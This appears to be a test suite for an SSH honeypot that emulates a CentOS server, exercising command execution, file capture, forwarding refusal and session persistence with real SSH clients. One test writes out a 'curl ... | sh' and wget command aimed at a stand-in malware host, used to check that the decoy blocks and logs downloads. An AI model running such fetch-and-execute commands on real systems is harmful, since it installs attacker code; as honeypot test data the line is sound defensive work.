/** What an intruder can do in a session, with real clients. */
import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { createHash, randomBytes } from 'node:crypto'
import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { serveDecoy, type TestDecoy, testPersona } from '../test-harness.ts'
import { ssh } from './ssh.ts'
import { client, common, given, type Ran, run, settings, testFolder } from './client-fixture.ts'

const folder = testFolder()

describe('a session', () => {
  let decoy: TestDecoy
  before(async () => {
    decoy = await serveDecoy(ssh, testPersona('centos-7'), settings)
  })
  after(async () => {
    await decoy.close()
    assert.deepEqual(decoy.faults, [])
  })

  test('answers exec with output, errors apart and the exit code, and says the command before its output', async () => {
    const { out, err, code } = await client(decoy, 'echo good; echo bad >&2; exit 7')
    assert.deepEqual([out, err, code], ['good\n', 'bad\n', 7])
    const kinds = decoy.events.filter((event) => event.connection === decoy.events.at(-1)?.connection).map((event) => event.kind)
    assert.ok(kinds.indexOf('command.executed') < kinds.indexOf('terminal.data'))
  })

  test('reads standard input of a command', async () => {
    const bytes = randomBytes(40_000)
    const { out } = await client(decoy, 'cat > /tmp/in; md5sum < /tmp/in', [], bytes.toString('latin1'))
    const expected = createHash('md5')
      .update(Buffer.from(bytes.toString('latin1')))
      .digest('hex')
    assert.ok(out.startsWith(expected) || out.startsWith(createHash('md5').update(bytes).digest('hex')), out)
  })

  test('captures what SFTP and SCP leave, byte for byte, and gives it back', async () => {
    const bytes = randomBytes(150_000)
    const file = join(folder(), 'sample.bin')
    await writeFile(file, bytes)
    const hash = createHash('sha256').update(bytes).digest('hex')
    const port = ['-P', String(decoy.port)]
    const sftp = await run(
      'sshpass',
      ['-p', given.password, 'sftp', ...common, ...port, 'root@127.0.0.1'],
      `put ${file} /tmp/a.bin\nls -l /tmp\nget /tmp/a.bin ${join(folder(), 'a.bin')}\nmkdir /tmp/dir\nrename /tmp/a.bin /tmp/dir/b.bin\nrm /tmp/dir/b.bin\nrmdir /tmp/dir\n`,
    )
    assert.match(sftp.out, /150000 .* a\.bin|150000 .* \/tmp\/a\.bin/)
    assert.deepEqual(await readFile(join(folder(), 'a.bin')), bytes)
    for (const legacy of [['-O'], []]) {
      const up = await run('sshpass', ['-p', given.password, 'scp', ...legacy, ...common, ...port, file, 'root@127.0.0.1:/root/up.bin'])
      assert.equal(up.code, 0, up.err)
    }
    const down = await run('sshpass', ['-p', given.password, 'scp', '-O', ...common, ...port, 'root@127.0.0.1:/root/up.bin', join(folder(), 'down.bin')])
    assert.equal(down.code, 0, down.err)
    assert.deepEqual(await readFile(join(folder(), 'down.bin')), bytes)
    await decoy.until(() => decoy.of('file.uploaded').length >= 3)
    assert.deepEqual([...new Set(decoy.of('file.uploaded').map((event) => event.file.sha256))], [hash])
    assert.deepEqual([...new Set(decoy.of('file.uploaded').map((event) => event.method))].sort(), ['scp', 'sftp'])
    assert.deepEqual(decoy.blobs.get(hash), bytes)
    assert.match((await client(decoy, 'sha256sum /root/up.bin')).out, new RegExp(hash))
  })

  test('refuses every forwarding in the words of the server, and says it', async () => {
    const direct = await client(decoy, '', ['-W', '10.1.2.3:3306'])
    assert.match(direct.err, /administratively prohibited: open failed|stdio forwarding failed/)
    const back = await client(decoy, 'true', ['-R', '8022:localhost:22', '-A', '-o', 'ExitOnForwardFailure=yes'])
    assert.match(back.err, /remote port forwarding failed/)
    const seen = decoy.of('forward.requested')
    assert.ok(seen.some((event) => event.type === 'direct-tcpip' && event.host === '10.1.2.3' && event.port === 3306))
    assert.ok(seen.some((event) => event.type === 'tcpip-forward' && event.port === 8022))
  })

  test('goes on through a rekey that the client asks for', async () => {
    const { out } = await client(decoy, 'cat /bin/bash', ['-o', 'RekeyLimit=60K'])
    assert.equal(out.length, 964_536)
  })

  test('fetches nothing and says what was to be fetched', async () => {
    const { err, code } = await client(decoy, 'curl -s -S http://malware.example.net/x.sh | sh; wget -q http://malware.example.net/y')
    assert.match(err, /Could not resolve host: malware\.example\.net/)
    assert.equal(code, 4)
    assert.deepEqual(
      decoy
        .of('download.requested')
        .map((event) => event.url)
        .slice(-2),
      ['http://malware.example.net/x.sh', 'http://malware.example.net/y'],
    )
    assert.ok(decoy.of('egress.refused').some((event) => event.host === 'malware.example.net'))
  })

  test('gives a terminal: echo, editing, history, completion, Ctrl-C, and the prompt again', async () => {
    const keys = ['ech\thello\x7f\x7fp\r', 'sleep 100\r', '\x03', '\x1b[A\x1b[A\r', 'w | grep -c pts\r', 'cat /etc/hos\t\t\t', '\x15exit 3\r']
    const child = await new Promise<Ran>((resolve) => {
      const process = execFile(
        'sshpass',
        ['-p', given.password, 'ssh', '-tt', ...common, '-p', String(decoy.port), 'root@127.0.0.1'],
        { encoding: 'latin1', timeout: 15_000 },
        (error, out, err) => resolve({ code: typeof error?.code === 'number' ? error.code : 0, out, err }),
      )
      let seen = ''
      let next = 0
      process.stdout?.on('data', (data: string) => {
        seen += data
        // each key press waits for the prompt, or for what the one before it shows
        const ready =
          /# $/.test(seen) ||
          (keys[next] === '\x03' && seen.endsWith('sleep 100\r\n')) ||
          (keys[next]?.startsWith('\x15') && /hosts\r\n.*# cat \/etc\/host$/s.test(seen))
        if (!ready || next >= keys.length) return
        seen = ''
        process.stdin?.write(keys[next++] as string)
      })
    })
    assert.match(child.out, /help\r\n/)
    assert.match(child.out, /\^C\r\n/)
    assert.match(child.out, /hostname +hosts/)
    assert.equal(child.code, 3)
    assert.ok(decoy.of('command.executed').some((event) => event.mode === 'shell' && event.input === 'w | grep -c pts'))
    assert.ok(decoy.of('command.finished').some((event) => event.exitCode === 130))
    const output = Buffer.concat(
      decoy
        .of('terminal.data')
        .filter((event) => event.stream === 'output')
        .map((event) => Buffer.from(event.data, 'base64')),
    ).toString('latin1')
    assert.ok(output.includes(child.out.slice(child.out.indexOf('helphelp') + 4, -20).slice(0, 200)), 'the recording holds what the client saw')
  })

  test('keeps what one session changed for the next, and over a save', async () => {
    await client(decoy, 'echo kept > /root/mark; rm /root/anaconda-ks.cfg; useradd -m svc')
    const { out } = await client(decoy, 'cat /root/mark; ls /root; id -u svc')
    assert.match(out, /^kept\n/)
    assert.ok(!out.includes('anaconda'))
    const { openWorld } = await import('../world.ts')
    const world = openWorld(decoy.persona, decoy.world().save())
    assert.equal(world.files.read('/root/mark').toString(), 'kept\n')
    assert.equal(world.files.stat('/root/anaconda-ks.cfg'), undefined)
    assert.ok(world.users.byName('svc'))
    assert.equal(world.save(), undefined)
  })
})
